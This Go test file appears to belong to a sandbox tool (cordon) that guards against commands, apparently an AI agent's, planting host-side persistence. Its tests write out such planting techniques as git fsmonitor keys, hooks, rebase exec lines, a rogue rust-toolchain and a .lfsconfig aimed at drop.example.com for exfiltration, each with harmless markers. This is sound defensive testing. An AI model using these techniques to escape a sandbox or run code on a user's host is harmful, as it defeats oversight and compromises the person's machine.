//go:build linux

package battery

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cordonsh/cordon/snapshot"
)

// Places the host's tools read on their own, found by an attacker
// (attack 18): each is planted in the sandbox, and then the person's
// own command runs on the host, as the person would run it; the planted
// program must not run.

// TestGuardGitIncludes: the person's git configuration includes files
// in the workspace (a project's shared, tracked .gitconfig): relative
// from .git/config, conditional (includeIf gitdir, the file not there
// yet), absolute and "~/" (a link into the workspace) from the global
// configuration, and one included by an included file. A command that
// writes core.fsmonitor into any of them has it undone, as in
// .git/config itself; the person's git status then runs nothing. A safe
// key written there is kept.
func TestGuardGitIncludes(t *testing.T) {
	eachBackend(t, func(t *testing.T, backend string) {
		b := newBattery(t, backend)
		marker := filepath.Join(b.base, "pwned")
		b.host(`git config include.path ../.gitconfig
printf '[user]\n\tname = Person\n[include]\n\tpath = nested.gitconfig\n' > .gitconfig
echo '[user]' > nested.gitconfig
git config --add includeIf.gitdir:` + b.ws + `/.path ` + b.ws + `/cond/when.gitconfig
echo '[user]' > abs.gitconfig && echo '[user]' > tilde.gitconfig
ln -s ` + b.ws + `/tilde.gitconfig ` + b.home + `/tilde.gitconfig
git config -f ` + b.home + `/.gitconfig include.path ` + b.ws + `/abs.gitconfig
git config -f ` + b.home + `/.gitconfig --add include.path '~/tilde.gitconfig'
git add .gitconfig nested.gitconfig && git commit -qm shared`)
		if got := strings.TrimSpace(b.host("git config user.name")); got != "Person" {
			t.Fatalf("the includes do not work on the host: user.name %q", got)
		}
		fsm := "[core]\\n\\tfsmonitor = \\\"touch " + marker + "; false\\\"\\n"
		for _, f := range []string{".gitconfig", "nested.gitconfig", "cond/when.gitconfig", "abs.gitconfig", "tilde.gitconfig"} {
			before, _ := os.ReadFile(filepath.Join(b.ws, f))
			out, _ := b.run("off", "mkdir -p cond && printf '"+fsm+"' >> "+f)
			if !strings.Contains(out, "cordon: "+filepath.Join(b.ws, f)+":") || !strings.Contains(out, "core.fsmonitor added") {
				t.Errorf("%s: no line saying core.fsmonitor was undone:\n%s", f, out)
			}
			b.host("git status >/dev/null 2>&1; true")
			if _, err := os.Stat(marker); err == nil {
				t.Errorf("%s: the person's git status ran the program a command planted there", f)
				os.Remove(marker)
			}
			if before != nil {
				b.unchanged(filepath.Join(b.ws, f), string(before))
			} else {
				b.absent(filepath.Join(b.ws, f))
			}
		}
		// A safe key is ordinary work: kept.
		if out, code := b.run("off", "git config -f .gitconfig user.email p@example.com"); code != 0 || strings.Contains(out, "cordon:") {
			t.Errorf("a safe key: exit %d:\n%s", code, out)
		}
		if got := strings.TrimSpace(b.host("git config user.email")); got != "p@example.com" {
			t.Errorf("a safe key in .gitconfig was not kept: %q", got)
		}
	})
}

// TestGuardBareKeepsPersonsFiles: a command makes the person's web/ (a
// React app's, with hooks/ and a config file of the person's, one of
// them uncommitted) a bare repository with three allowed writes: HEAD,
// objects/ and refs/. The guard must not take the person's hooks/ and
// config for what the command planted: they stay, and what made the
// directory a repository goes instead, so the person's git no longer
// takes web/ for a git directory. Directly in the workspace (kept when
// the command ends) and deeper (kept by the round after it). A bare
// repository a command makes of its own, with a hook planted, still
// loses the hook.
func TestGuardBareKeepsPersonsFiles(t *testing.T) {
	eachBackend(t, func(t *testing.T, backend string) {
		b := newBattery(t, backend)
		b.host(`for d in web packages/web; do
mkdir -p $d/hooks && echo 'export const useThing = 1' > $d/hooks/useThing.js && echo 'port: 3000' > $d/config
done
git add web packages && git commit -qm web
echo 'export const useOther = 2' > web/hooks/useOther.js && echo 'export const useOther = 2' > packages/web/hooks/useOther.js`)
		// (Older than the next command's trusted state by more than
		// the file clock's margin.)
		time.Sleep(100 * time.Millisecond)
		make := func(d string) string {
			return "mkdir -p " + d + "/objects " + d + "/refs && echo 'ref: refs/heads/main' > " + d + "/HEAD"
		}
		out, code := b.run("off", make("web"))
		if code != 0 {
			t.Fatalf("exit %d:\n%s", code, out)
		}
		out2, code := b.shim(make("packages/web"))
		if code != 0 {
			t.Fatalf("through the shim: exit %d:\n%s", code, out2)
		}
		snapshot.Open(filepath.Join(b.home, ".local", "state", "cordon"), snapshot.Budgets{}).WaitPending(b.ws)
		for _, d := range []string{"web", "packages/web"} {
			for f, want := range map[string]string{"hooks/useThing.js": "export const useThing = 1\n", "hooks/useOther.js": "export const useOther = 2\n", "config": "port: 3000\n"} {
				b.unchanged(filepath.Join(b.ws, d, f), want)
			}
			if got := strings.TrimSpace(b.host("cd " + d + " && git rev-parse --absolute-git-dir")); got != filepath.Join(b.ws, ".git") {
				t.Errorf("%s: git takes %s for its git directory, want the workspace's", d, got)
			}
		}
		if !strings.Contains(out+out2, "your own") {
			t.Errorf("no line saying what was done:\n%s\n%s", out, out2)
		}
		// The same with a hook planted among the person's: git does
		// not run it (web is no repository, or the hook is gone).
		b.run("off", make("web")+" && printf '#!/bin/sh\\necho pwned\\n' > web/hooks/post-checkout && chmod +x web/hooks/post-checkout")
		if got := strings.TrimSpace(b.host("cd web && git rev-parse --absolute-git-dir")); got != filepath.Join(b.ws, ".git") {
			if _, err := os.Lstat(filepath.Join(b.ws, "web/hooks/post-checkout")); err == nil {
				t.Errorf("web is a git directory (%s) with the planted hook in it", got)
			}
		}
		// A repository a command makes in the person's directory: the
		// person's places at its root stay, one it plants goes.
		b.host("mkdir -p app/.vscode && echo 'use nix' > app/.envrc && echo '{}' > app/.vscode/settings.json")
		time.Sleep(100 * time.Millisecond)
		out, _ = b.run("off", "git init -q app && mkdir -p app2 && echo 'echo pwned' > app2/.envrc && git init -q app2")
		b.unchanged(filepath.Join(b.ws, "app/.envrc"), "use nix\n")
		b.unchanged(filepath.Join(b.ws, "app/.vscode/settings.json"), "{}\n")
		b.absent(filepath.Join(b.ws, "app2/.envrc"))
		// A bare repository of the command's own: its planted hook goes.
		out, _ = b.run("off", "git init -q --bare remote.git && printf '#!/bin/sh\\necho pwned\\n' > remote.git/hooks/post-update && chmod +x remote.git/hooks/post-update")
		b.absent(filepath.Join(b.ws, "remote.git/hooks/post-update"))
		if !strings.Contains(out, "remote.git") {
			t.Errorf("no line for remote.git:\n%s", out)
		}
	})
}

// TestGuardStoppedRebase: a command leaves a rebase stopped at a
// conflict whose todo list still holds an "exec" line, or whose merge
// strategy is a program in the work tree (git-merge-../x). The person
// resolves the conflict on the host and runs git rebase --continue, as
// the agent would ask them to: nothing the command left may run. A
// rebase the person left stopped, exec lines and all, stays as it is
// through an unrelated command.
func TestGuardStoppedRebase(t *testing.T) {
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			b := newBattery(t, backend)
			marker := filepath.Join(b.base, "pwned")
			b.host(`git branch -m main && echo base > f && git add f && git commit -qm base
git checkout -qb side && echo side > f && git commit -qam side && echo two > g && git add g && git commit -qm two
git checkout -q main && echo main > f && git commit -qam main && git checkout -q side`)
			cont := "echo resolved > f && git add f && GIT_EDITOR=true git rebase --continue >/dev/null 2>&1; true"
			side := strings.TrimSpace(b.host("git rev-parse side"))
			abort := func() {
				b.host("git rebase --abort 2>/dev/null; git checkout -q -f -B side " + side + "; rm -rf 'git-merge-..'; true")
			}
			for _, a := range []struct{ name, script string }{
				{"exec", "git rebase -x 'touch " + marker + "' main"},
				{"todo written", "git rebase main; echo 'exec touch " + marker + "' >> .git/rebase-merge/git-rebase-todo"},
				{"strategy", "git rebase main; mkdir -p 'git-merge-..' && printf '#!/bin/sh\\ntouch " + marker + "\\nexit 2\\n' > 'git-merge-../x' && chmod +x 'git-merge-../x' && echo ../x > .git/rebase-merge/strategy"},
			} {
				out, _ := b.run("off", "{ "+a.script+"; } >/dev/null 2>&1; ls .git/rebase-merge >/dev/null && echo stopped")
				if !strings.Contains(out, "stopped") {
					t.Fatalf("%s: the rebase did not stop:\n%s", a.name, out)
				}
				if !strings.Contains(out, "would run a program") {
					t.Errorf("%s: no line saying what was moved:\n%s", a.name, out)
				}
				b.host(cont)
				if _, err := os.Stat(marker); err == nil {
					t.Errorf("%s: the person's git rebase --continue ran a program the command left", a.name)
					os.Remove(marker)
				}
				abort()
			}
			// The person's own stopped rebase -x: kept.
			b.host("git rebase -x true main >/dev/null 2>&1; test -d .git/rebase-merge")
			if out, code := b.run("off", "echo unrelated"); code != 0 || strings.Contains(out, "cordon:") {
				t.Errorf("an unrelated command: exit %d:\n%s", code, out)
			}
			b.host("test -f .git/rebase-merge/git-rebase-todo && grep -q 'exec true' .git/rebase-merge/git-rebase-todo")
		})
	}
}

// TestScratchRepositoryOfAnotherUser: another user's repository in
// shared scratch space, which a command without capabilities cannot
// enter (its directory 0700), stops no command: before, bwrap failed on
// it ("Can't find source path ...: Permission denied"), for every
// command, while it was there. As root only (it takes chown).
func TestScratchRepositoryOfAnotherUser(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("making another user's repository takes root")
	}
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			b := newBattery(t, backend)
			tmp := t.TempDir()
			other := filepath.Join(tmp, "other-repo")
			b.host("git init -q " + other + " && chown -R 65534:65534 " + other + " && chmod 0700 " + other)
			out, code := b.run("off", "echo ran", "TMPDIR="+tmp)
			if code != 0 || !strings.Contains(out, "ran") {
				t.Errorf("exit %d:\n%s", code, out)
			}
		})
	}
}

// TestGuardToolFiles: files host tools read on their own, planted by a
// command past the judge (a program it cannot read), at the root and
// below it: .lfsconfig naming a server of the command's (the person's
// git push would upload their large files there: git lfs env shows
// where), and rust-toolchain, without an extension, naming a toolchain
// directory of the command's (the person's cargo would run its cargo).
// Afterwards the person's tools on the host use neither.
func TestGuardToolFiles(t *testing.T) {
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			b := newBattery(t, backend)
			if b.session {
				b.settings("")
			} else {
				b.settings("  session: off\n")
			}
			marker := filepath.Join(b.base, "pwned")
			b.host("cp /bin/sh x && mkdir -p sub && echo s > sub/s && git add sub && git commit -qm sub")
			b.plant("tools", `mkdir -p .tc/bin
printf '#!/bin/sh\ntouch `+marker+`\n' > .tc/bin/cargo; chmod +x .tc/bin/cargo
printf '[toolchain]\npath = "`+b.ws+`/.tc"\n' > rust-toolchain
printf '[toolchain]\npath = "`+b.ws+`/.tc"\n' > sub/rust-toolchain
printf '[lfs]\n\turl = https://drop.example.com/lfs\n' > .lfsconfig
printf '[lfs]\n\turl = https://drop.example.com/lfs\n' > sub/.lfsconfig
echo planted
`, "planted")
			for _, f := range []string{"rust-toolchain", "sub/rust-toolchain", ".lfsconfig", "sub/.lfsconfig"} {
				b.absent(filepath.Join(b.ws, f))
			}
			if _, err := exec.LookPath("git-lfs"); err == nil {
				if env := b.host("git lfs env 2>&1; cd sub && git lfs env 2>&1"); strings.Contains(env, "drop.example.com") {
					t.Errorf("the person's git lfs uses the command's server:\n%s", env)
				}
			}
			if rustup, err := exec.LookPath("rustup"); err == nil {
				b.host("cd sub && PATH=" + filepath.Dir(rustup) + ":$PATH cargo --version >/dev/null 2>&1; true")
				if _, err := os.Stat(marker); err == nil {
					t.Error("the person's cargo ran the command's toolchain")
				}
			}
		})
	}
}

// TestGuardGitIncludesWhileRunning: a code-running key written into a
// file the configuration includes is undone while the command still
// runs, as one in .git/config is (TestGitConfigUndoneWhileRunning).
func TestGuardGitIncludesWhileRunning(t *testing.T) {
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			b := newBattery(t, backend)
			b.host("git config include.path ../.gitconfig && echo '[user]' > .gitconfig")
			b.run("off", "true")
			shared := filepath.Join(b.ws, ".gitconfig")
			cmd := exec.Command(b.cordon, "run", "--backend", b.backend, "--network", "off", "--workspace", b.ws, "--", b.bash, "-c",
				"printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> .gitconfig && echo planted && sleep 5")
			cmd.Dir, cmd.Env = b.ws, b.env
			outFile := filepath.Join(t.TempDir(), "out")
			f, err := os.Create(outFile)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			cmd.Stdout, cmd.Stderr = f, f
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			done := make(chan struct{})
			go func() { cmd.Wait(); close(done) }()
			output := func() string { data, _ := os.ReadFile(outFile); return string(data) }
			undone := false
			for deadline := time.Now().Add(4 * time.Second); !undone && time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
				data, _ := os.ReadFile(shared)
				undone = strings.Contains(output(), "planted") && !strings.Contains(string(data), "fsmonitor")
			}
			select {
			case <-done:
				b.noSandbox(output())
				t.Fatalf("the command ended before the key was undone:\n%s", output())
			default:
			}
			if !undone {
				t.Errorf("the key was still there while the command ran:\n%s", output())
			}
			cmd.Process.Signal(os.Interrupt)
			<-done
		})
	}
}

// TestGuardHooksPath: the person's repository runs its hooks from a
// directory of its own (core.hooksPath = .githooks), set in the
// repository's configuration or in the person's global one: a hook a
// command adds or changes there is not on disk once the command has
// ended, as one in .git/hooks is not, and the person's next commit runs
// nothing of the command's (found by a review, then by an attacker: only
// .git/config's hooksPath was kept read-only).
func TestGuardHooksPath(t *testing.T) {
	for name, where := range map[string]string{"repository": "", "global": "--global "} {
		for _, backend := range backends {
			t.Run(name+"/"+backend, func(t *testing.T) {
				b := newBattery(t, backend)
				if b.session {
					b.settings("")
				} else {
					b.settings("  session: off\n")
				}
				b.host("cp /bin/sh x && mkdir -p .githooks && printf '#!/bin/sh\\nexit 0\\n' > .githooks/pre-push && chmod +x .githooks/pre-push && git config " + where + "core.hooksPath .githooks && git add .githooks && git commit -qm hooks")
				b.plant("hooks", `printf '#!/bin/sh\ntouch pwned\n' > .githooks/pre-commit 2>/dev/null; chmod +x .githooks/pre-commit 2>/dev/null
printf '#!/bin/sh\ntouch pwned\n' > .githooks/pre-push 2>/dev/null
echo planted
`, "planted")
				b.absent(filepath.Join(b.ws, ".githooks/pre-commit"))
				if data, _ := os.ReadFile(filepath.Join(b.ws, ".githooks/pre-push")); strings.Contains(string(data), "pwned") {
					t.Errorf("a hook of the person's hooks directory changed by a command is on disk:\n%s", data)
				}
				b.host("echo two > tracked && git commit -qam two")
				b.absent(filepath.Join(b.ws, "pwned"))
			})
		}
	}
}

// plantNotRun has a command overwrite the program at file (relative to
// the workspace), which git runs for the person, with one that makes
// the workspace's "pwned": the file must not hold it once the command
// has ended, and the person's run (a shell line on the host, in the
// workspace) must run nothing of the command's.
func (b *battery) plantNotRun(file, run string) {
	b.t.Helper()
	pwned := filepath.Join(b.ws, "pwned")
	b.plant("program", "printf '#!/bin/sh\\ntouch "+pwned+"\\n' > "+file+" 2>/dev/null\necho planted\n", "planted")
	if data, _ := os.ReadFile(filepath.Join(b.ws, file)); strings.Contains(string(data), "touch") {
		b.t.Errorf("%s, which git runs for the person, changed by a command, is on disk:\n%s", file, data)
	}
	b.host(run)
	b.absent(pwned)
}

// TestGuardHooksPathNested: a repository of the person's nested in the
// workspace (lib, its own .git) runs its hooks from its own
// core.hooksPath, relative to its own work tree: a hook a command
// changes there is not on disk once the command has ended, and the
// person's next commit in lib runs nothing of the command's (found by an
// attacker: only the workspace repository's configuration was read).
func TestGuardHooksPathNested(t *testing.T) {
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			b := newBattery(t, backend)
			b.settings("  session: off\n")
			b.host("cp /bin/sh x && mkdir lib && cd lib && git init -q && mkdir .githooks && printf '#!/bin/sh\\nexit 0\\n' > .githooks/pre-commit && chmod +x .githooks/pre-commit && git config core.hooksPath .githooks && echo y > g && git add -A && git commit -qm init")
			b.plantNotRun("lib/.githooks/pre-commit", "cd lib && echo z >> g && git commit -qam two")
		})
	}
}

// TestGuardConfigProgram: the person's configuration, the repository's
// or the global one, names a program in the workspace that git runs on
// its own (core.fsmonitor = ./tools/fsmon, at every git status): a
// command's change to that file is not on disk once the command has
// ended, and the person's next git status runs nothing of the command's
// (found by an attacker: printf ... > tools/fsmon).
func TestGuardConfigProgram(t *testing.T) {
	for name, where := range map[string]string{"repository": "", "global": "--global "} {
		for _, backend := range backends {
			t.Run(name+"/"+backend, func(t *testing.T) {
				b := newBattery(t, backend)
				b.settings("  session: off\n")
				b.host("cp /bin/sh x && mkdir -p tools && printf '#!/bin/sh\\nexit 0\\n' > tools/fsmon && chmod +x tools/fsmon && git add tools && git commit -qm tools && git config " + where + "core.fsmonitor ./tools/fsmon")
				b.plantNotRun("tools/fsmon", "git status --short >/dev/null 2>&1 || true")
			})
		}
	}
}

// TestGuardHookLink: the person's hook is a link to a tracked script
// (ln -s ../../scripts/pre-commit .git/hooks/pre-commit), or a
// directory of .git/hooks whose scripts the person's pre-commit runs is
// a link to a directory of the workspace; a command overwrites the
// script, or adds one to that directory. The person's git commit must not run what
// the command wrote: the script is read-only in the sandbox, and put
// back after the command, as .git/hooks is; in a session too, whose
// sandbox was made before the link.
func TestGuardHookLink(t *testing.T) {
	setups := map[string]struct {
		setup, plant, hook string
		first              bool // the link is made before the first command
	}{
		"file": {
			setup: "mkdir -p scripts && printf '#!/bin/sh\\nexit 0\\n' > scripts/pre-commit && chmod +x scripts/pre-commit && git add scripts && git commit -qm hook && ln -s ../../scripts/pre-commit .git/hooks/pre-commit",
			plant: "scripts/pre-commit",
			hook:  "scripts/pre-commit",
		},
		"missing": {
			// The script the link leads to is not there yet: what a
			// command makes there is removed when it ends. (Made
			// before the first command: see docs/security.md, "Links
			// out of a read-only directory".)
			setup: "ln -s ../../scripts/pre-commit .git/hooks/pre-commit",
			plant: "scripts/pre-commit",
			hook:  "scripts/pre-commit",
			first: true,
		},
		"directory": {
			// A dispatcher hook that runs every script of a directory
			// linked into .git/hooks.
			setup: "mkdir -p tools/hooks.d && printf '#!/bin/sh\\nexit 0\\n' > tools/hooks.d/lint && chmod +x tools/hooks.d/lint && git add tools && git commit -qm hooks && ln -s ../../tools/hooks.d .git/hooks/pre-commit.d && printf '#!/bin/sh\\nfor h in .git/hooks/pre-commit.d/*; do \"$h\" || exit 1; done\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
			plant: "tools/hooks.d/zz",
			hook:  "tools/hooks.d/zz",
		},
	}
	for name, c := range setups {
		for _, backend := range backends {
			t.Run(name+"/"+backend, func(t *testing.T) {
				b := newBattery(t, backend)
				if b.session {
					b.settings("")
				} else {
					b.settings("  session: off\n")
				}
				// A first command: a session's sandbox is made before
				// the link, which must make a new one.
				b.host("cp /bin/sh x")
				if c.first {
					b.host(c.setup)
				}
				b.plant("first", "echo first\n", "first")
				if !c.first {
					b.host(c.setup)
				}
				b.plant("hooks", `mkdir -p $(dirname `+c.plant+`); printf '#!/bin/sh\ntouch pwned\n' > `+c.plant+` 2>/dev/null; chmod +x `+c.plant+` 2>/dev/null
echo planted
`, "planted")
				if data, _ := os.ReadFile(filepath.Join(b.ws, c.hook)); strings.Contains(string(data), "pwned") {
					t.Errorf("the script a hook links to, changed by a command, is on disk:\n%s", data)
				}
				b.host("echo two > tracked && git commit -qam two")
				b.absent(filepath.Join(b.ws, "pwned"))
			})
		}
	}
}
